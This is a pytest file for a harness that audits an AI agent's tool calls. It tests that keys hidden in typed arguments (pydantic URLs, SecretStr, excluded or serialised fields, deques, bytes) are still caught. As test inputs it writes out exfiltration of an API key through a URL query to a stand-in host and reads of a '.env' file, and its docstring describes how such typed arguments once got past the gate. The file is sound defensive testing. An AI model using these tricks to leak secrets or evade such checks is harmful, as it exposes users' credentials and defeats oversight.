"""A function tool's typed arguments: the gate reads each value as the tool reads it.

Frameworks validate the model's JSON into the types a tool's signature names. The gate read
several of them as ``<TypeName>`` (a pydantic ``HttpUrl``, a ``SecretStr``, a ``deque``) or by
their serialised form, which a pydantic model may change: a field with ``exclude=True`` left
out, a field serializer's text, a masked ``SecretStr``. The tool read the real value: a key in a
URL's query left through a ``fetch(url: HttpUrl)`` tool, a ``.env`` path in an excluded field
or a deque was read, and the session was PASS. Now the gate reads the URL's text, the secret's
value, the sequence's items and the model's fields as attributes. Benign twins: the same tools
with harmless values run, and the record keeps the values the tool got.
"""

from __future__ import annotations

import collections
import dataclasses
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from agent_support import pydantic_ai_run
from pydantic import BaseModel, Field, HttpUrl, SecretStr, field_serializer
from secret_support import api_key, service_harness

from pytest_harness_audit.session.harness import Harness


@pytest.fixture
def harness(tmp_path: Path) -> Iterator[Harness]:
    yield from service_harness(tmp_path)


def _fetcher(harness: Harness, fetched: list[str]) -> Any:
    def fetch(url: HttpUrl) -> str:
        """Fetch a web page.

        Args:
            url: the page.
        """
        fetched.append(str(url))
        return "<html></html>"

    return harness.tool(fetch, category="network", on_block="return")


def test_a_key_in_a_typed_url_is_refused_through_pydantic_ai(harness: Harness) -> None:
    fetched: list[str] = []
    url = f"https://example.invalid/collect?k={api_key(harness)}"
    read = pydantic_ai_run(_fetcher(harness, fetched), "fetch", {"url": url})
    assert fetched == []
    assert read[0].startswith("[blocked]")
    assert harness.verdict.value == "FAIL"


def test_a_harmless_typed_url_is_fetched_and_recorded(harness: Harness) -> None:
    fetched: list[str] = []
    url = "https://example.invalid/docs?page=2"
    assert pydantic_ai_run(_fetcher(harness, fetched), "fetch", {"url": url}) == ["<html></html>"]
    assert fetched == [url]
    assert harness.calls()[0].params == {"url": url}


def test_a_key_in_a_secret_str_message_is_refused(harness: Harness) -> None:
    sent: list[str] = []

    def send_message(to: str, text: SecretStr) -> str:
        """Send a message."""
        sent.append(text.get_secret_value())
        return "sent"

    tool = harness.tool(send_message, on_block="return")
    read = pydantic_ai_run(tool, "send_message", {"to": "bob", "text": api_key(harness)})
    assert sent == []
    assert read[0].startswith("[blocked]")
    assert harness.verdict.value == "FAIL"
    assert pydantic_ai_run(tool, "send_message", {"to": "bob", "text": "hello"}) == ["sent"]


class Attachment(BaseModel):
    """A file to attach, whose path is kept out of the attachment's serialised form."""

    path: str = Field(exclude=True)
    note: str = ""


class Shown(BaseModel):
    """A file reference that serialises as a label."""

    path: str

    @field_serializer("path")
    def _label(self, path: str) -> str:
        return "attachment"


@pytest.mark.parametrize("model", [Attachment, Shown], ids=["excluded", "serialized"])
def test_a_model_field_left_out_of_its_serialised_form_is_judged(
    harness: Harness, model: type[BaseModel]
) -> None:
    ran: list[str] = []

    def attach(ref: Any) -> str:
        ran.append(ref.path)
        return (harness.root / ref.path).read_text(encoding="utf-8")[:10]

    attach.__annotations__["ref"] = model
    tool = harness.tool(attach, category="file_read", on_block="return")
    read = pydantic_ai_run(tool, "attach", {"ref": {"path": ".env"}})
    assert ran == []
    assert read[0].startswith("[blocked]")
    assert harness.verdict.value == "FAIL"


def test_a_harmless_model_field_runs(harness: Harness) -> None:
    def attach(ref: Attachment) -> str:
        return (harness.root / ref.path).read_text(encoding="utf-8")[:8]

    tool = harness.tool(attach, category="file_read", on_block="return")
    assert pydantic_ai_run(tool, "attach", {"ref": {"path": "README.md"}}) == ["# orders"]
    assert harness.calls()[0].params == {"ref": {"path": "README.md", "note": ""}}
    assert harness.verdict.value == "PASS"


def test_a_deque_of_paths_is_judged_by_its_paths(harness: Harness) -> None:
    ran: list[str] = []

    def read_files(paths: collections.deque[str]) -> str:
        """Read files."""
        ran.extend(paths)
        return "".join((harness.root / p).read_text()[:1] for p in paths)

    tool = harness.tool(read_files, category="file_read", on_block="return")
    assert pydantic_ai_run(tool, "read_files", {"paths": [".env"]})[0].startswith("[blocked]")
    assert ran == []
    assert pydantic_ai_run(tool, "read_files", {"paths": ["README.md"]}) == ["#"]
    assert harness.calls()[-1].params == {"paths": ["README.md"]}


@dataclasses.dataclass
class Page:
    """A page to fetch, as a dataclass argument."""

    url: HttpUrl


def test_a_key_in_a_url_field_of_a_dataclass_is_refused(harness: Harness) -> None:
    fetched: list[str] = []

    def fetch_page(page: Page) -> str:
        """Fetch a web page."""
        fetched.append(str(page.url))
        return "<html></html>"

    tool = harness.tool(fetch_page, category="network", on_block="return")
    url = f"https://example.invalid/collect?k={api_key(harness)}"
    assert pydantic_ai_run(tool, "fetch_page", {"page": {"url": url}})[0].startswith("[blocked]")
    assert fetched == []
    assert harness.verdict.value == "FAIL"
    harmless = "https://example.invalid/docs"
    assert pydantic_ai_run(tool, "fetch_page", {"page": {"url": harmless}}) == ["<html></html>"]
    assert harness.calls()[-1].params == {"page": {"url": harmless}}


def test_a_path_in_bytes_inside_a_list_is_judged_by_its_text(harness: Harness) -> None:
    ran: list[bytes] = []

    def read_files(paths: list[bytes]) -> str:
        """Read files."""
        ran.extend(paths)
        return "".join((harness.root / p.decode()).read_text()[:1] for p in paths)

    tool = harness.tool(read_files, category="file_read", on_block="return")
    assert pydantic_ai_run(tool, "read_files", {"paths": [".env"]})[0].startswith("[blocked]")
    assert ran == []
    assert pydantic_ai_run(tool, "read_files", {"paths": ["README.md"]}) == ["#"]
    assert harness.calls()[-1].params == {"paths": ["README.md"]}


def test_a_value_with_no_json_form_does_not_hide_the_values_beside_it(harness: Harness) -> None:
    sent: list[Any] = []

    def send_message(to: str, parts: list[Any]) -> str:
        """Send a message."""
        sent.append(parts)
        return "sent"

    tool = harness.tool(send_message, on_block="return")
    assert tool("bob", [api_key(harness), object()]).startswith("[blocked]")
    assert sent == []
    assert harness.verdict.value == "FAIL"
    assert tool("bob", ["hello", object()]) == "sent"
    assert harness.calls()[-1].params == {"to": "bob", "parts": ["hello", "<object>"]}
